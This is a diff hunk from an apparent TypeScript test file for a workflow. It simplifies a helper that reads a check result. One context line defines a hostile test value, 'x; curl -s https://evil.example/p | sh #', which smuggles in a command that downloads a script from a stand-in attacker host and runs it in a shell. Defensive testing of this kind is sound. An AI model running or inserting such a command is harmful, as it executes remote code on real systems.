@@ -24,8 +24,7 @@ const guid = (i: number) => `1a2b3c4d-0000-4000-8000-${String(i).padStart(12, '0
 const EVIL = 'x; curl -s https://evil.example/p | sh #';
 
 const checkOutput = (w: LocalWorkflow) => {
-  const exited = w.events.find((e) => e.type === 'StateExited' && e.state.name === STATE_NAMES.check);
-  return (exited as unknown as { state: { output: CheckResult } }).state.output;
+  return w.checked();
 };
 const puts = (world: World) => world.sims.east!.requests.filter((r) => r.method === 'PUT');
 
